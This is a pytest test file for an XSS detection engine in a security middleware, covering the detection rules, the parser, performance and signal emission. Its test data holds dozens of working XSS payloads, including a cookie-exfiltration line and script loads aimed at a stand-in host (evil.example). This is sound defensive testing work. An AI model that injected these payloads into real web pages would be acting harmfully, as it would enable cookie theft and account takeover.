"""XSS detection (941xxx): the package ``devsecmw/engine/xss/`` and its rules.

Per technique and per context the value could land in (HTML text, quoted or unquoted
attribute, script string, style), the benign rich text that must pass, the pieces
(start-tag parser, JS reader), properties (never raises, work linear in the input),
and whole requests through the engine and the ASGI middleware.
"""

from __future__ import annotations

import ast
import json
from pathlib import Path
from typing import Any

import pytest
from asgi_harness import steady_time_budget  # noqa: F401  (autouse fixture: results independent of load)
from detect_harness import Req, asgi_signals, engine_signals, fired, rule_examples, rules_of
from hypothesis import given, settings
from hypothesis import strategies as st

from devsecmw.engine import xss
from devsecmw.engine.matcher import compile_pattern
from devsecmw.engine.rules import Rule
from devsecmw.engine.transforms import apply_chain
from devsecmw.engine.xss.finders import _re2_form

RULES = {r.id: r for r in rules_of("941-xss.json")}
PL1 = RULES["941100"]
STRICT = RULES["941101"]
PREFILTER = compile_pattern(xss.PREFILTER)


def hit(value: str, rule: Rule = PL1) -> tuple[int, int] | None:
    """What the rule reports for ``value``, asserting the engine would have run it at all."""
    view = apply_chain(value, rule.transforms)
    span = rule.operator.evaluate(view, _Utf8())
    if span is not None:
        # The engine only evaluates a rule whose prefilter occurs in the value.
        assert PREFILTER.search(view) is not None, f"prefilter misses {view!r}"
        assert 0 <= span[0] < span[1] <= len(view)
    return span


class _Utf8:
    utf8 = True


# --------------------------------------------------------------------------- rule examples
@pytest.mark.parametrize(("rule", "example", "should_match"), rule_examples("941-xss.json"))
def test_rule_examples(rule: Rule, example: str, should_match: bool) -> None:
    assert (rule.matches_value(example) is not None) is should_match


# --------------------------------------------------------------------------- techniques
TECHNIQUES = {
    "script tag": ["<script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js></script>", "<script"],
    "namespaced script": ['<x:script xmlns:x="http://www.w3.org/1999/xhtml" src="data:,alert(1)"/>'],
    "dangerous tags": [
        "<iframe src=//evil.example>",
        "<object data=x.swf>",
        "<embed src=x.swf>",
        "<applet code=X.class>",
        "<base href=//evil.example/>",
        "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "<meta charset=utf-7>",
        "<link rel=import href=//evil.example/x.html>",
        "<xml id=i><x><c><![cdata[<img src=x>]]></c></x></xml>",
        '<?import namespace="t" implementation="#default#time2">',
        '<meta http-equiv="Set-Cookie" content="session=attacker">',
        '<META HTTP-EQUIV="CONTENT-TYPE" CONTENT="text/html; charset=UTF-7">',
        '<link href="xss.js" rel=stylesheet type="text/javascript">',
        "<style>@import url(//evil.example/x.css)</style>",
    ],
    "style with script": [
        "<style>@import 'http://evil.example/x.css';</style>",
        "<style>body{background:url(javascript:alert(1))}</style>",
        "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(\"XSS\")';</STYLE>",
        '<style type="text/javascript">alert(1)</style>',
        "<div style=\"width: expression(alert('XSS'))\">",
        "<img style=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
        '<xss style="behavior: url(xss.htc);">',
        '<div style="-moz-binding:url(//evil.example/x.xml#xss)">',
        "<div style=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072"
        "\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028\\0031\\0029'\\0029\">",
    ],
    "event handlers": [
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<svg\nonload\n=\nalert(1)>",
        "<body onload=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<x onclick=alert(1)>click me",
        "<marquee onstart=alert(1)>",
        "<xss onbeforehellfreezes=alerw(1)>",
        "<img src=`x`onerror=alert(1)>",
        '<img alt=">" onerror="alert(1)" src=x>',
        "<x 1='1'onxxx=1",
        "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>",
        "<img src=x onerror=alert&lpar;1&rpar;>",
        "<div ng-app ng-csp><div ng-click=$event.view.alert(1)>",
        '<button @click="alert(document.domain)">x</button>',
    ],
    "script URLs": [
        "<a href=javascript:alert(1)>x</a>",
        '<a href="JaVaScRiPt:alert(1)">x</a>',
        '<a href="javascript&colon;alert(1)">x</a>',
        '<a href="&#x6a;avascript:alert(1)">x</a>',
        '<a href="jav\tascript:alert(1)">x</a>',
        '<a href="jav&#x0A;ascript:alert(1)">x</a>',
        '<a href=" \x01javascript:alert(1)">x</a>',
        "<a href=java&#1&#2&#3&#4script:alert(1)>x</a>",
        '<img src="javas<!-- -->cript:alert(1)">',
        '<a href="vbscript:msgbox(1)">x</a>',
        "<form action=javascript:alert(1)><input type=submit>",
        "<button formaction=javascript:alert(1)>x",
        "<isindex action=javascript:alert(1) type=image>",
        '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
        "<svg><animate attributeName=href values=javascript:alert(1) />",
        "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116"
        "&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000049&#0000041>",
    ],
    "data URLs": [
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
        '<iframe src="data:text/html,<script>alert(1)</script>">',
        "<object data=data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=>",
        "data:text/html,<script>alert(1)</script>",
        '<iframe srcdoc="<img src=x onerror=alert(1)>">',
    ],
    "whole value is a script URL": [
        "javascript:alert(document.domain)",
        "  javascript:alert(1)",
        "javascript://%0aalert(1)",
        "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
        "ja&Tab;vascript:void(0)",
        "\xe2\x80\x89javascript:alert(1)",
        "vbscript:msgbox",
    ],
    "script URL inside a value": ["[click](javascript:alert(1))", "?x=1&next=javascript:alert(1)"],
    "attribute break-outs": [
        '" onmouseover="alert(1)',
        "' onmouseover='alert(1)",
        '"autofocus onfocus=alert(1) x="',
        '" onerror=alert()1 a="',
        "x onerror=alert(1)",
        "'><svg onload=alert(1)>",
        '"><script>alert(1)</script>',
        '" style="x:expression(alert(1))',
        '" href="javascript:alert(1)',
    ],
    "script context break-outs": [
        "';alert(1)//",
        '"-alert(1)-"',
        '\\";alert(1);//',
        "'-prompt(1)-'",
        '";alert(String.fromCharCode(88,83,83))//',
        "'}alert(1);{'",
        "`;alert(1)//",
        "';location='javascript:alert(1)'//",
        '"in valueOf=',
        "</script><script>alert(1)</script>",
        "&#39;-alert(1)-&#39;",
    ],
    "bare JS": [
        "alert(1)",
        "alert`1`",
        "eval('alert(1)')",
        "prompt(document.cookie)",
        "setTimeout('alert(1)',0)",
        "top['al'+'ert'](1)",
        "self[/*x*/'alert'](1)",
        "window[/al/.source+/ert/.source](1)",
        "[].constructor.constructor('alert(1)')()",
        "[].sort.call`${alert}1337`",
        "al\\u0065rt(1)",
        "new Function('alert(1)')()",
        "document.cookie",
        "x=new Image;x.src='//evil.example/?'+document.cookie",
        "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]]",
        "<br size=\"&{alert('XSS')}\">",
        "`${alert(document.domain)}`",
        "document['coo'+'kie']",
        "self[/*x*/'location']='//evil.example'",
        "'';!--\"<XSS>=&{()}",
    ],
    "template injection": [
        "{{constructor.constructor('alert(1)')()}}",
        "{{$on.constructor('alert(1)')()}}",
        "{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };alert(1)//');}}",
    ],
    "nested and broken tags": [
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<<script>alert(1);//<</script>",
        '<img """><script>alert(1)</script>">',
        '<a href="http://x" <img src=x onerror=alert(1)>',
        "document.write('<scr'+'ipt src=//evil.example/x.js></scr'+'ipt>')",
        "<? echo('<scr)';echo('ipt>alert(1)</script>'); ?>",
    ],
    "encodings": [
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "%253Csvg%2520onload%253Dalert(1)%253E",
        "%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE",
        "%u003Cscript%u003Ealert(1)%u003C/script%u003E",
        "<scr\x00ipt>alert(1)</script>",
        "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
        "\\u003cimg src=x onerror=alert(1)\\u003e",
        "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",  # full-width, NFKC-folded by some apps
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        " ADw-script AD4-alert(1) ADw-/script AD4-",
        "\xbcscript\xbealert(\xa2XSS\xa2)\xbc/script\xbe",
    ],
}
POSITIVES = [pytest.param(v, id=f"{k}-{i}") for k, vs in TECHNIQUES.items() for i, v in enumerate(vs)]


@pytest.mark.parametrize("value", POSITIVES)
def test_attack_is_detected(value: str) -> None:
    assert hit(value) is not None
    assert hit(value, STRICT) is not None  # paranoia 2 is a superset


@pytest.mark.parametrize(
    ("value", "marker"),
    [
        ("hello <img src=x onerror=alert(1)> world", "onerror"),
        ("<p>ok</p><script>alert(1)</script>", "<script"),
        ('look <a href="javascript:alert(1)">here</a>', "href"),
        ("x' ;alert(1)// y", "'"),
        ("some text {{constructor.constructor('alert(1)')()}}", "alert(1)"),
    ],
)
def test_evidence_span_points_at_the_payload(value: str, marker: str) -> None:
    span = hit(value)
    assert span is not None
    start, end = span
    window = value[max(0, start - 8) : end + 8]
    assert marker in window


PROBES = ["onmouseover", " onError ", "&#x0003C", "&#60;", "&lt", "\\x3c", "\\u003c"]


@pytest.mark.parametrize("value", PROBES)
def test_filter_probes_have_their_own_rule(value: str) -> None:
    probe = RULES["941120"]
    assert probe.matches_value(value) is not None
    assert compile_pattern(probe.operator.prefilter or "").search(value) is not None
    assert hit(value) is None  # not active content: 941100 stays silent


@pytest.mark.parametrize("value", ["online", "onboarding", "on load", "once", "&lt;b&gt;bold&lt;/b&gt;", "<"])
def test_filter_probe_rule_needs_the_whole_value(value: str) -> None:
    assert RULES["941120"].matches_value(value) is None


def test_filter_probe_rule_reads_values_not_names() -> None:
    signals = engine_signals(Req.json_body({"onError": "retry", "trigger": "click"}))
    assert fired(signals, "xss") == set()
    assert ("xss", "query:q", "941120") in fired(engine_signals(Req.query("q", "onmouseover")), "xss")


# --------------------------------------------------------------------------- benign
BENIGN = {
    "rich text": [
        "<p>Hello <strong>world</strong> and <em>you</em>, <b>b</b> <i>i</i> <u>u</u> <s>s</s></p>",
        '<p>See <a href="https://example.com/page?a=1&amp;b=2" target="_blank" rel="noopener noreferrer">'
        "this guide</a> &ndash; thanks!</p>",
        '<img src="https://cdn.example.com/a.png" alt="A photo" width="200" height="100">',
        "<ul><li>one</li><li>two</li></ul><ol><li>first</li></ol>",
        "<table><thead><tr><th>A</th></tr></thead><tbody><tr><td>1</td></tr></tbody></table>",
        "line one<br>line two<br/>line three",
        '<span style="color:#333">grey</span> <span style="font-weight:bold; color: rgb(1, 2, 3)">x</span>',
        "<blockquote><p>Quoted text</p></blockquote><hr><h2>Update</h2><h3>Details</h3>",
        "<pre><code>&lt;script&gt;alert(1)&lt;/script&gt;</code></pre>",
        "<p>Use <code>&lt;img src=x onerror=alert(1)&gt;</code> to test your filter.</p>",
        '<div class="note" id="n1" data-id="42">note</div>',
        '<a href="mailto:a@example.com">mail</a> <a href="/docs/page">docs</a> <a href="#top">top</a>',
        '<p><img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAE" alt="pasted"></p>',
        '<a href="tel:+15551234">call</a> <a href="https://javascript.info/">javascript.info</a>',
        # A whole page pasted into an e-mail template field: charset, web font, CSS escapes.
        '<!DOCTYPE html><html><head><meta charset="utf-8"><meta http-equiv="Content-Type" '
        'content="text/html; charset=UTF-8"><meta name="viewport" content="width=device-width">'
        '<link rel="stylesheet" href="https://fonts.googleapis.com/css2?family=Inter"><style>'
        "@import url('https://fonts.googleapis.com/css2?family=Inter'); body{font-family:Inter;color:#333}"
        ' .q:before{content:"\\201C"}</style><title>News</title></head><body><table width="600"><tr><td>'
        '<h1>Spring sale</h1><p>Hello {{first_name}},</p><a href="https://shop.example.com/?utm=n">Shop</a>'
        "</td></tr></table></body></html>",
    ],
    "markdown": [
        "**bold** and _italic_ with `code` and [a link](https://example.com)",
        "![screenshot](https://example.com/x.png) ![](a.png) ![](b.png) ![](c.png) ![](d.png)",
        "1. Open `Settings`\n2. Click `alert` (top right)\n3. Press `Enter`",
        "```js\nconst x = [1, 2, 3].map((n) => n * 2);\n```",
        "> quoted\n\n- item one\n- item two",
    ],
    "chat and prose": [
        "I <3 this product!! -> 10/10 :-) >_< <-- look",
        "if a < b > c then d",
        "2 < 3 && 4 > 1",
        "Contact me at <john@example.com>",
        "<Insert name here>",
        "I love javascript: it's the language of the web",
        "javascript: the good parts",
        "The onload event fires once everything has loaded; onclick handlers run on clicks.",
        "set the onload handler in your script",
        "Please confirm (yes/no)",
        "Please confirm your email address",
        "I got an alert (from the bank)",
        'He said "yes"; then left (quickly)',
        'The "best" + cheapest (really)',
        "'Hello' - World(2)",
        "O'Brien's \"shop\" - open 9-5",
        "a regular expression (regex) or an expression of interest",
        "Price: 50% off (today only); see terms",
        "document.cookie is empty in Safari, why?",
        "window[0] is the first frame",
        "online=yes, only onions",
        "The data: field is empty",
        "¼ cup sugar, ¾ cup flour",
        "Select the 'large' option if you're between sizes.",
        "It's \"waterproof\" <strong>only</strong> if you don't go out in the rain...",
        "Ich hätte gern die Größe XL \u2013 geht das?",
        "注文番号 ORD-2024-67438 の配送状況を教えてください。",
    ],
    "data": [
        "{{ user.name }}",
        "Hello {{name}}, your order {{order.id}} has shipped",
        '{"a":"b","c":[1,2],"d":{"e":null}}',
        'query { user(id: "1") { name posts(first: 10) { title } } }',
        "C:\\Users\\x64\\file.txt",
        "<3MyCat2024",
        "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==",
        "https://example.com/search?q=onload&from=home&to=cart",
        "utm_source=newsletter&utm_medium=email&utm_campaign=spring",
        "style=modern&expr=1",
        "x = a < b ? c : d",
    ],
    "source code": [
        'def f(x):\n    print("value", fmt(x), len(x))\n    return window["k"] if x else g("a", h(1))\n',
        'el.addEventListener("click", function (e) { console.log("hi", e.target); setTimeout(cb, 10); });',
        "document.getElementById('out').innerHTML = render(items);",
        'SELECT name FROM users WHERE id = 1; -- "quoted" (note)',
        "for (i=1;i<6;i++) { total += price[i]; }",
        '<button @click="save()" ng-click="vm.open(item)">Save</button>',
        "email me @john = cool",
    ],
}
NEGATIVES = [pytest.param(v, id=f"{k}-{i}") for k, vs in BENIGN.items() for i, v in enumerate(vs)]


@pytest.mark.parametrize("value", NEGATIVES)
def test_benign_passes(value: str) -> None:
    assert hit(value) is None


@pytest.mark.parametrize(
    "value",
    [
        "</script><h1>hi</h1>",
        "</title><b>x</b>",
        "<svg><g/></svg>",
        "<math><mi>x</mi></math>",
        '<form action="https://evil.example/login"><input name=p type=password>',
        "<style>p{color:red}</style>",
        "Try alert(1) in the console",
        "<code>&lt;img src=x onerror=alert(1)&gt;</code>",
        "note: document.cookie holds the session",
    ],
)
def test_paranoia_2_reports_what_paranoia_1_lets_pass(value: str) -> None:
    assert hit(value) is None
    assert hit(value, STRICT) is not None


@pytest.mark.parametrize(
    "value",
    [
        "<p>Hello <strong>world</strong></p>",
        '<a href="https://example.com">link</a> <img src="https://example.com/a.png" alt="">',
        "javascript: the good parts",
        "1. Click `alert` (top right)",
    ],
)
def test_paranoia_2_still_passes_plain_rich_text(value: str) -> None:
    assert hit(value, STRICT) is None


# --------------------------------------------------------------------------- pieces
def test_parse_tag_reads_attributes_like_a_browser() -> None:
    low = "<img/src=\"a>b\"/alt='x' onerror = alert(1) checked>"
    tag = xss.parse_tag(low, 0, len(low))
    assert tag.name == "img"
    names = [a[0] for a in tag.attrs]
    assert names == ["src", "alt", "onerror", "checked"]
    src = tag.attr("src")
    assert src is not None and low[src[2] : src[3]] == "a>b"  # a quoted value hides ">"
    onerror = tag.attr("onerror")
    assert onerror is not None and low[onerror[2] : onerror[3]] == "alert(1)"
    assert tag.end == len(low)


def test_parse_tag_is_bounded_and_namespaced() -> None:
    low = "<x:script " + "a=1 " * 500
    tag = xss.parse_tag(low, 0, 300)
    assert tag.local == "script"
    assert tag.end <= 300
    assert len(tag.attrs) <= 48


@pytest.mark.parametrize(
    ("text", "active"),
    [
        ("alert(1)", True),
        ("a.b.c(d)", True),
        ("alert`1`", True),
        ("(0,eval)('x')", True),
        ("document.cookie=1", True),
        ("x=1;y(2)", True),
        ("top[/al/.source](1)", True),
        ("alert(1", True),  # cut short: still a call
        ("alert(from the bank)", False),
        ("the good parts", False),
        ("void(0)", False),
        ("(see below)", False),
        ("50% (off)", False),
        ("x = y + z", False),
        ("yes/no", False),
    ],
)
def test_js_reader_tells_calls_from_prose(text: str, active: bool) -> None:
    assert xss.js_active(text) is active


def test_unescape_maps_offsets_back() -> None:
    text = "a&lt;b&#x3e;c&amp;#106;d"
    decoded, anchors = xss.unescape(text)
    assert decoded == "a<b>cjd"  # the second round reveals &#106;
    assert xss._map_back(anchors, decoded.index("b")) == text.index("b")


def test_pieces_answer_with_named_records() -> None:
    low = "<a href='x' hidden>"
    src = xss.parse_tag(low, 0, len(low)).attr("href")
    assert src is not None and low[src.value_start : src.value_end] == "x" and low[src.start] == "h"
    hidden = xss.parse_tag(low, 0, len(low)).attr("hidden")
    assert hidden is not None and hidden.value_start == -1
    call = xss.js_call("top.alert(1); x", 0, 16)
    assert call == (len("top.alert(1)"), "alert")
    assert xss.js_call("the good parts", 0, 14) == (-1, "")
    _, anchors = xss.unescape("&lt;b")
    assert anchors == [(1, 4)]  # (new, old): after the replacement, 1 in the decoded text is 4


def test_re2_forms_drop_look_arounds_whole() -> None:
    # A look-around holding a class with a leading "]" ends at its own ")", not inside the class.
    assert _re2_form(r"a(?=[])])b") == "ab"
    assert _re2_form(r"x(?![a-z0-9_.:-])") == "x"
    assert _re2_form(r"[\s]\s") == "[\\t-\\r\\x1c-\\x20\\x85\\xa0][\\t-\\r\\x1c-\\x20\\x85\\xa0]"


def test_the_package_stays_readable() -> None:
    # Issue 9: no module over ~600 lines, no function over ~80.
    root = Path(xss.__file__).parent
    for path in root.glob("*.py"):
        source = path.read_text(encoding="utf-8")
        assert source.count("\n") <= 600, path.name
        for node in ast.walk(ast.parse(source)):
            if isinstance(node, ast.FunctionDef):
                assert (node.end_lineno or 0) - node.lineno < 80, (path.name, node.name)


def test_make_detector_validates_its_parameter() -> None:
    assert xss.make_detector(None) is xss.detect
    assert xss.make_detector({"strict": True}) is xss.detect_strict
    with pytest.raises(ValueError, match="unknown detect_xss option 'paranoid'"):
        xss.make_detector({"paranoid": True})
    with pytest.raises(ValueError, match="invalid detect_xss mode 'html'"):
        xss.make_detector({"mode": "html"})


# --------------------------------------------------------------------------- XML bodies (941110)
@pytest.mark.parametrize(
    "body",
    [
        '<?xml version="1.0"?><root><a probe="&lt;script&gt;alert(1)&lt;/script&gt;"></a></root>',
        '<?xml version="1.0"?><root><a probe="ja&amp;tab;vascript:alert(1)"></a></root>',
        "<?xml version='1.0'?><m><![CDATA[<img src=x onerror=alert(1)>]]></m>",
        '<soap:Envelope xmlns:soap="urn:x"><soap:Body><q>&lt;svg onload=alert(1)&gt;</q></soap:Body>'
        "</soap:Envelope>",
    ],
)
def test_xml_body_payloads(body: str) -> None:
    assert RULES["941110"].matches_value(body) is not None


@pytest.mark.parametrize(
    "body",
    [
        '<?xml version="1.0"?><order id="7"><item>Fish &amp; chips</item><note>a &lt; b</note></order>',
        "<rss version='2.0'><channel><link>https://example.com/</link><title>News</title></channel></rss>",
        # A feed whose descriptions are escaped HTML, hundreds of items: read as one text.
        "<?xml version='1.0'?><rss><channel>"
        + "<item><description>&lt;p&gt;Hello &lt;b&gt;world&lt;/b&gt;&lt;/p&gt;</description></item>" * 400
        + "</channel></rss>",
        '{"comment": "<script>alert(1)</script>"}',  # JSON: its fields go to 941100
        "q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    ],
)
def test_raw_body_rule_leaves_other_documents(body: str) -> None:
    assert RULES["941110"].matches_value(body) is None


# --------------------------------------------------------------------------- properties
XSS_ALPHABET = st.sampled_from(
    [*"<>\"'`=/\\ ;:(){}[]&#%!+-*.,?\t\n\x00abcdefjnorstvxADw-", "on", "script", "&lt;", "\\x3c", "é", "日"]
)


@settings(max_examples=300, deadline=None)
@given(st.lists(XSS_ALPHABET, max_size=200).map("".join))
def test_never_raises_and_spans_are_in_bounds(value: str) -> None:
    for result in (xss.scan(value), xss.scan(value, strict=True)):
        if result.span is not None:
            start, end = result.span
            assert 0 <= start < end <= len(value)
    xss.detect_raw_body("<?xml version='1.0'?><a b=\"" + value + '">' + value + "</a>")


@settings(max_examples=100, deadline=None)
@given(st.text(max_size=300))
def test_never_raises_on_any_text(value: str) -> None:
    xss.detect(value)
    xss.detect_strict(value)


FRAGMENTS = [
    "'/*<a \"||(select ../ ${jndi: %2e%2e <svg on",
    "<a ",
    '<a title="x ',
    "x onclick=1 ",
    "&lt;img onerror=alert(1) ",
    "<a href=javascript ",
    "'-foo bar(1) ",
    "please alert(the bank) ",
    "window[ ",
    "&#1",
    "style=x:expression(a b) ",
    "{{ a b }} ",
    "\\x41\\u0042",
    '<p>Hi <a href="https://e.example/?a=1&amp;b=2">x</a></p>',
]


@settings(max_examples=30, deadline=None)
@given(st.lists(st.sampled_from(FRAGMENTS), min_size=1, max_size=4).map("".join), st.booleans())
def test_work_grows_linearly(fragment: str, strict: bool) -> None:
    """Steps (characters scanned and read while verifying) per character stay bounded."""
    steps = []
    for size in (4096, 16384, 65536):
        value = (fragment * (size // len(fragment) + 1))[:size]
        steps.append(xss.scan(value, strict).steps)
        assert steps[-1] <= 16 * size + 20000
    # Four times the input, at most a little over four times the work.
    assert steps[2] <= 4.5 * steps[1] + 20000
    assert steps[1] <= 4.5 * steps[0] + 20000


def test_a_flood_of_attack_shaped_fragments_is_reported() -> None:
    """Past its verification budget the detector reports the value (benign text is not like this)."""
    value = "x onclick=1 " * 5000
    assert xss.detect(value) is not None
    big_rich_text = '<p>Hi <a href="https://e.example/a">x</a> <span style="color:#333">y</span></p>\n' * 800
    assert xss.detect(big_rich_text) is None


@pytest.mark.parametrize(
    "value",
    [
        "Dear {{ first_name }}, your order {{ order.id }} ships {{ date }}. " * 500,
        "condition=new&region=eu&session=1&" * 1000,
        "${jndi:ldap://x.example/a} ${env:HOME} " * 1000,
        "see this [link](https://example.com) and this [one](/docs) " * 600,
    ],
    ids=["handlebars", "query-words", "lookups", "markdown-links"],
)
def test_long_benign_values_do_not_exhaust_the_budget(value: str) -> None:
    assert xss.detect(value) is None


# --------------------------------------------------------------------------- whole requests
def test_engine_reports_location_and_rule_for_each_place() -> None:
    payload = "<svg/onload=alert(1)>"
    cases = [
        (Req.query("q", payload), "query:q"),
        (Req.form("comment", payload), "body:form:comment"),
        (Req.json_body({"user": {"bio": payload}}), "body:json:user.bio"),
        (Req.header("Referer", "https://app.example.test/?q=" + payload), "header:referer"),
        (Req("/", headers=[("Cookie", "pref=" + payload.replace(";", ""))]), "cookie:pref"),
    ]
    for req, location in cases:
        assert ("xss", location, "941100") in fired(engine_signals(req), "xss"), location


def test_engine_reports_xml_body() -> None:
    body = b'<?xml version="1.0"?><root><a probe="&lt;script&gt;alert(1)&lt;/script&gt;"></a></root>'
    req = Req("/post", "POST", body=body, content_type="application/xml")
    assert {rule for t, _loc, rule in fired(engine_signals(req), "xss")} == {"941110"}


def test_benign_rich_text_request_has_no_xss_signal() -> None:
    doc = {
        "title": "Where to drop off your returns",
        "body": '<p>Arrived with a cracked corner &ndash; <a href="https://shop.example.com/x?utm_source=blog'
        '&amp;ref=ab" target="_blank" rel="noopener noreferrer">this guide</a>.</p><blockquote><p>Is there '
        'a way to delete old drafts?</p></blockquote><ul><li>Fits my 15" MacBook</li></ul>'
        '<p><img src="data:image/png;base64,iVBORw0KGgo" alt="pasted image"></p>',
        "markdown": "**Update:** click `alert` (top right) -> done <3",
    }
    assert fired(engine_signals(Req.json_body(doc)), "xss") == set()


@pytest.mark.parametrize(
    ("req", "location"),
    [
        (Req.query("q", '"><img src=x onerror=alert(1)>'), "query:q"),
        (Req.form("comment", "<script>alert(document.cookie)</script>"), "body:form:comment"),
        (Req.json_body({"profile": {"site": "javascript:alert(1)"}}), "body:json:profile.site"),
    ],
    ids=["query", "form", "json"],
)
def test_asgi_middleware_emits_xss_signal(req: Req, location: str, otel: Any) -> None:
    events = asgi_signals(req, otel)
    xss_events = [e for e in events if e["devsecmw.signal.type"] == "xss"]
    assert xss_events, json.dumps(events, default=str)
    assert {e["devsecmw.signal.location"] for e in xss_events} == {location}
    assert {e["security_rule.uuid"] for e in xss_events} == {"941100"}
    assert all(e["security_rule.category"] == "attack-xss" for e in xss_events)
    assert otel.span().attributes["devsecmw.classification"] == "attack"
